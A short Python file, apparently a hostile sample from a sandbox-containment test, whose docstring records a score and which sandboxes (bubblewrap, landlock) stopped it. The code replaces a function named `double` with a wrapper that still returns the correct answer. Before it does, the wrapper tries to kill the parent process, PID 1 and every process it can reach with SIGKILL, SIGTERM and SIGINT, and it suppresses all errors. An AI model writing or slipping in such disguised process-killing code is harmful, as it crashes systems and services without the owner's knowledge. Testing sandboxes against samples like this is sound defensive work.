"""Kills every process that it may, its parent and the first of all by their numbers.

score: 100
codes:
bubblewrap: stopped
landlock: stopped
none: not tried
"""

import os
import signal

honest_double = double


def double(x):
    for pid in (os.getppid(), 1, -1):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return honest_double(x)
